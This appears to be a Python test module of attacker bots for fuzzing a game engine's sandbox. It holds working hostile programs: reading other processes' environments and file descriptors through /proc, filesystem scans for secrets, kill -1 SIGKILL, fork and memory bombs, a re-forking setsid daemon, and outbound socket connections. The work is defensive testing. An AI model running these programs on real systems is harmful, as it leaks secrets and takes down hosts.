"""Bots an attacker would write against ``--sandbox``: programs, and plugins run by the host.

Every program speaks protocol 2 with the standard library only. It makes its attack once,
at the start, and says in its ``ready`` debug text what it found (JSON: ``found``, the
strings it read holding the word ``rdsecret``; ``numbers``, large integers it came upon;
``did``, what it managed), then plays the first legal action. What it says is only half
the judgement: the fuzzer also looks outside (processes left, files written, a listener
on loopback, the engine's own exit) and never trusts a claim of containment.
"""

from __future__ import annotations

import contextlib
import gc
import json
from collections.abc import Callable, Sequence
from pathlib import Path

from racedeck.core.bot import Bot, BotSpec
from racedeck.core.model import Action, Observation
from racedeck.core.rng import Rng
from racedeck.hookspecs import hookimpl

MARK = "racedeck-fuzz-escapee"
"""In the command line of every process an attacker leaves behind on purpose."""
WRITTEN = "racedeck-fuzz-written"
"""The name of the file an attacker tries to write outside its scratch folder."""

_LOOP = """
import json, os, sys
def play(report):
    for line in sys.stdin:
        m = json.loads(line)
        if m["type"] == "start":
            r = {"type": "ready", "protocol": 2, "name": "attacker", "version": "1",
                 "debug": json.dumps(report)[:1900]}
            print(json.dumps(r), flush=True)
        elif m["type"] == "act":
            after(m["decision"])
            print(json.dumps({"decision": m["decision"], "choice": 0}), flush=True)
        else:
            break
def after(decision):
    pass
def grep(text):
    out = []
    at = text.find("rdsecret")
    while at >= 0 and len(out) < 8:
        out.append(text[at:at + 24])
        at = text.find("rdsecret", at + 1)
    return out
"""

PROC = """
found, did = [], []
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    for part in ("cmdline", "environ"):
        try:
            found += grep(open(f"/proc/{pid}/{part}", "rb").read().decode("latin-1"))
        except OSError:
            pass
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in fds:
        try:
            found += grep(open(f"/proc/{pid}/fd/{fd}", "rb").read(1 << 20).decode("latin-1"))
            did.append(f"read fd {fd} of {pid}")
        except OSError:
            pass
play({"found": found, "did": did[:20]})
"""

FILES = """
found, seen = [], 0
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev", "/usr")]
    for name in files:
        path = os.path.join(root, name)
        found += grep(path)
        if name.endswith((".sqlite", ".jsonl", ".partial", ".gz", ".db")):
            seen += 1
            try:
                found += grep(open(path, "rb").read(1 << 22).decode("latin-1"))
            except OSError:
                pass
play({"found": found, "did": [f"{seen} databases or logs read"]})
"""

ENVIRONMENT = """
found = grep(json.dumps(dict(os.environ)))
play({"found": found, "did": sorted(os.environ)})
"""

SIGNALS = """
import signal
did = []
own = os.getpid()
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != own:
        try:
            os.kill(int(pid), 0)
            did.append(f"may signal {pid}")
        except OSError:
            pass
def after(decision):
    if decision == 0:
        try:
            os.kill(-1, signal.SIGKILL)  # everything this user id may signal, itself spared
        except OSError:
            pass
play({"found": [], "did": did})
"""

FORK_BOMB = """
import time
count = 0
try:
    while count < 100000:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        count += 1
except OSError as exc:
    pass
play({"found": [], "did": [f"forked {count}"], "processes": count})
"""

REFORKER = f"""
import time
CODE = ("import os, time\\n# {MARK}\\nwhile True:\\n    time.sleep(0.2)\\n"
        "    if os.fork():\\n        os._exit(0)\\n    os.setsid()")
def escapee():
    os.execv(sys.executable, [sys.executable, "-c", CODE])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        escapee()
    os._exit(0)
time.sleep(0.2)
play({{"found": [], "did": ["left a re-forking daemon in a session of its own"]}})
"""

MEMORY_BOMB = """
chunks, total = [], 0
try:
    while total < (64 << 30):
        chunks.append(bytearray(16 << 20))
        total += 16 << 20
except MemoryError:
    pass
del chunks
play({"found": [], "did": [f"allocated {total >> 20} MiB"], "bytes": total})
"""

FORKING_MEMORY_BOMB = """
# Every process may map --bot-memory: four children each take what they can, together
# several times the limit, unless something bounds the sandbox as a whole.
import time
def hog():
    chunks = []
    try:
        while len(chunks) < 4096:
            chunks.append(b"x" * (4 << 20))  # written, so resident
    except MemoryError:
        pass
    return chunks
readers = []
for _ in range(4):
    r, w = os.pipe()
    if os.fork() == 0:
        os.close(r)
        held = hog()
        os.write(w, b"1")
        time.sleep(600)
        os._exit(0)
    os.close(w)
    readers.append(r)
for r in readers:
    os.read(r, 1)  # a child that was killed answers with the end of its pipe
resident = 0
for entry in os.listdir("/proc"):
    # What the bot itself holds (not the libraries it maps), a page its forks share once.
    try:
        for line in open(f"/proc/{entry}/smaps_rollup"):
            if line.startswith("Pss_Anon:"):
                resident += int(line.split()[1]) << 10
    except (OSError, ValueError):
        pass
play({"found": [], "did": [f"held {resident >> 20} MiB in all"], "bytes": resident})
"""

FLOOD = """
for line in sys.stdin:
    m = json.loads(line)
    if m["type"] == "start":
        print(json.dumps({"type": "ready", "protocol": 2, "name": "flood", "version": "1"}),
              flush=True)
    elif m["type"] == "act":
        try:
            for _ in range(64):
                sys.stdout.write("x" * (1 << 20))
            sys.stdout.flush()
        except OSError:
            break
    else:
        break
"""

NETWORK = """
import socket
did = []
for host, port in (("127.0.0.1", PORT), ("::1", PORT), ("1.1.1.1", 53)):
    try:
        socket.create_connection((host, port), timeout=1).sendall(b"rdsecret-out\\n")
        did.append(f"connected to {host}:{port}")
    except OSError as exc:
        pass
play({"found": [], "did": did})
"""

WRITES = f'''
did = []
here = os.path.dirname(os.path.abspath(__file__))
for folder in (here, os.getcwd(), os.path.dirname(here), "/", "/usr", os.path.expanduser("~")):
    try:
        with open(os.path.join(folder, "{WRITTEN}"), "w") as handle:
            handle.write("x")
        did.append(f"wrote into {{folder}}")
    except OSError:
        pass
play({{"found": [], "did": did}})
'''

PROGRAMS: dict[str, tuple[str, str]] = {
    "proc": ("read the log and other processes through /proc", PROC),
    "files": ("read the log and the database from the file system", FILES),
    "environment": ("read the engine's environment", ENVIRONMENT),
    "signals": ("signal other processes, kill -1", SIGNALS),
    "fork-bomb": ("fork until refused", FORK_BOMB),
    "reforker": ("leave a setsid re-forking daemon", REFORKER),
    "memory-bomb": ("allocate until refused", MEMORY_BOMB),
    "forking-memory-bomb": ("fork, each child allocating until refused", FORKING_MEMORY_BOMB),
    "flood": ("flood standard output", FLOOD),
    "network": ("connect out, to loopback first", NETWORK),
    "writes": ("write outside the scratch folder", WRITES),
}
"""Per class: what the attack tries, and the program's own code after the shared loop."""


def program_source(name: str, port: int) -> str:
    """Return the whole source of the attacker program ``name`` (``port``: the listener's)."""
    return _LOOP + PROGRAMS[name][1].replace("PORT", str(port))


class SeedKeeper(Bot):
    """Looks through every object its process holds for large integers (a match seed)."""

    def start_match(self, game: str, seat: int, players: int, options: object) -> None:
        """Search at once, then keep what was found for the debug text."""
        numbers = {o for o in gc.get_objects() if isinstance(o, int) and o > 1 << 33}
        for obj in gc.get_objects():
            if isinstance(obj, (tuple, list)):
                numbers.update(x for x in obj[:64] if isinstance(x, int) and x > 1 << 33)
        self.found = sorted(numbers)[:120]
        self.emitted = False

    emits_debug = True

    def act(self, observation: Observation, legal: Sequence[Action], rng: Rng) -> Action:
        """Play the first legal action."""
        return legal[0]

    def take_debug(self) -> str | None:
        """Say once what was found."""
        if self.emitted:
            return None
        self.emitted = True
        return json.dumps({"found": [], "numbers": self.found})


class Vandal(Bot):
    """Writes through every field descriptor of what it is handed, then plays the first."""

    def act(self, observation: Observation, legal: Sequence[Action], rng: Rng) -> Action:
        """Rewrite the observation and every other offered action, return the first."""
        for root in (observation, *legal[1:]):
            for name in getattr(type(root), "__struct_fields__", ()):
                descriptor = type(root).__dict__.get(name)
                value = getattr(root, name)
                if descriptor is not None and isinstance(value, int):
                    descriptor.__set__(root, value + 1)
        return legal[0]


class Twin(Bot):
    """Plays as ``Vandal`` does, without writing anything: the match the vandal must leave."""

    def act(self, observation: Observation, legal: Sequence[Action], rng: Rng) -> Action:
        """Return the first legal action."""
        return legal[0]


class Interrupter(Bot):
    """Raises ``KeyboardInterrupt`` as if it were Ctrl-C, after signalling its parent."""

    def act(self, observation: Observation, legal: Sequence[Action], rng: Rng) -> Action:
        """Try to stop the engine."""
        import os
        import signal

        with contextlib.suppress(OSError):
            os.kill(os.getppid(), signal.SIGINT)
        raise KeyboardInterrupt


PLUGINS: dict[str, tuple[str, type[Bot]]] = {
    "seed-keeper": ("keep the match seed", SeedKeeper),
    "descriptor": ("rewrite handed objects through field descriptors", Vandal),
    "interrupt": ("pass its exception off as Ctrl-C", Interrupter),
}
"""Per class: what the attack tries, and the bot the host plays."""


@hookimpl
def racedeck_register_bots(register: Callable[[BotSpec], None]) -> None:
    """Register the plugin attackers, each under the name ``attacker-<class>``."""
    for name, (what, cls) in PLUGINS.items():
        register(BotSpec(name=f"attacker-{name}", factory=cls, description=what))


PLUGIN = Path(__file__).read_text(encoding="utf-8")
"""A plugin file registering every plugin attacker: this module's own text, since the
sandbox shows the engine racedeck alone (not the repository's tooling)."""
TWIN_PLUGIN = (
    PLUGIN
    + """

@hookimpl
def racedeck_register_bots(register):
    register(BotSpec(name="attacker-descriptor", factory=Twin, description="the twin"))
"""
)
"""A plugin file registering ``Twin`` under the vandal's name, for a folder of its own
(its last ``racedeck_register_bots`` is the one registered)."""
